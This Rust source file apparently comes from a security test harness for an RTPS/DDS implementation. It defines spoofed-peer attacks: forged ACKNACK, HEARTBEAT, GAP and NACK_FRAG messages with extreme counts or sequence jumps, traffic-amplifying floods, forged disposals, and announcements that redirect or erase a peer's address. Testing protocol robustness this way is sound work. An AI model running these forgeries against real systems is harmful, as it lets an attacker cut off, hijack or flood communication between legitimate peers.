//! Messages in the name of the honest peer, from an address of the attacker.

use std::thread;
use std::time::Duration;

use anyhow::Result;
use peregrine_rtps::locator::Locator;

use crate::craft::MESSAGE_BYTES;
use crate::field::{Field, Forged};
use crate::forge::Forge;

/// Time between two of the messages that do their damage at once.
const SPARSE: Duration = Duration::from_millis(10);
/// Numbers that a jump passes over.
const JUMP: i64 = 100_000;
/// Counts at the end of the range, of which an attack uses one with each message.
const COUNT_START: i32 = i32::MAX - 100_000;

/// Sends the messages of the impostor that `body` appends, with a number that grows, one every 10 ms.
fn sparsely(field: &mut Field<'_>, mut body: impl FnMut(&Forge, i32, i64, &mut Vec<u8>)) -> Result<()> {
    let impostor = field.impostor()?;
    field.begin();
    let mut round = 0;
    while field.lasts() {
        round += 1;
        // The samples of the flow are numbered from 1 on in both directions.
        let current = i64::try_from(field.victim_state()?.flow.received)?;
        let message = impostor.forge.directed(|out| body(&impostor.forge, round, current, out));
        field.user(&impostor, &message);
        thread::sleep(SPARSE);
    }
    Ok(())
}

pub(super) fn acknack_counts(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, _, out| forge.acknack(1, 0, COUNT_START + round, out))
}

pub(super) fn heartbeat_counts(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| forge.says_it_has(1, current, COUNT_START + round, out))
}

pub(super) fn nack_frag_counts(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| forge.nack_frag(current, 1, COUNT_START + round, out))
}

pub(super) fn gap_jumps(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, _, current, out| forge.gap(1, current + JUMP, out))
}

pub(super) fn heartbeat_jumps(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| {
        forge.says_it_has(current + JUMP, current + 2 * JUMP, COUNT_START + round, out);
    })
}

pub(super) fn acknack_of_unwritten(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| forge.acknack(current + JUMP, 0, COUNT_START + round, out))
}

/// ACKNACKs of samples that are under way.
pub(super) fn acknack_of_current(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| {
        (-2..8).for_each(|ahead| forge.acknack(current + ahead, 0, COUNT_START + 10 * round + ahead as i32, out));
    })
}

/// Samples with numbers that the peer has not used yet.
pub(super) fn future_samples(field: &mut Field<'_>) -> Result<()> {
    sparsely(field, |forge, round, current, out| {
        let number = current + 1000 + i64::from(round);
        forge.data(forge.victim_reader, forge.writer, number, &Default::default(), &forge.sample, out);
    })
}

/// HEARTBEATs that make the victim send an ACKNACK to the peer.
pub(super) fn heartbeat_flood(field: &mut Field<'_>) -> Result<()> {
    flood(field, |forge, count, out| forge.says_it_has(1, i64::from(count), count, out))
}

/// ACKNACKs that make the victim send samples to the peer.
pub(super) fn acknack_flood(field: &mut Field<'_>) -> Result<()> {
    flood(field, |forge, count, out| forge.acknack(i64::from(count), 256, count, out))
}

fn flood(field: &mut Field<'_>, body: impl Fn(&Forge, i32, &mut Vec<u8>)) -> Result<()> {
    let impostor = field.impostor()?;
    field.begin();
    let mut count = 0;
    while field.lasts() {
        let message = impostor.forge.directed(|out| {
            for _ in 0..10 {
                count += 1;
                body(&impostor.forge, count, out);
            }
        });
        field.user(&impostor, &message);
    }
    Ok(())
}

pub(super) fn participant_disposals(field: &mut Field<'_>) -> Result<()> {
    announce(field, |impostor, number| impostor.forge.participant_disposal(number))
}

/// The peer has one writer and one reader, so that the next sample of its publications and subscriptions is the second.
pub(super) fn endpoint_disposals(field: &mut Field<'_>) -> Result<()> {
    announce(field, |impostor, number| {
        let forge = &impostor.forge;
        forge.directed(|out| {
            forge.endpoint_disposal(forge.writer, number + 1, out);
            forge.endpoint_disposal(forge.reader, number + 1, out);
        })
    })
}

/// Announcements that name the attacker's address as that of the peer.
pub(super) fn moved_peer(field: &mut Field<'_>) -> Result<()> {
    announce(field, |impostor, number| {
        let here = Locator::from(impostor.forge.address);
        impostor.forge.announcement_with(number + 1000, |data| Forge::at(data, here))
    })
}

/// Announcements of the peer without any address.
pub(super) fn unreachable_peer(field: &mut Field<'_>) -> Result<()> {
    announce(field, |impostor, number| {
        impostor.forge.announcement_with(number + 1000, |data| {
            data.metatraffic_unicast.clear();
            data.default_unicast.clear();
        })
    })
}

fn announce(field: &mut Field<'_>, message: impl Fn(&Forged, i64) -> Vec<u8>) -> Result<()> {
    let impostor = field.impostor()?;
    field.begin();
    let mut number = 0;
    while field.lasts() {
        number += 1;
        let message = message(&impostor, number);
        debug_assert!(message.len() < MESSAGE_BYTES);
        field.meta(&impostor, &message);
        thread::sleep(SPARSE);
    }
    Ok(())
}
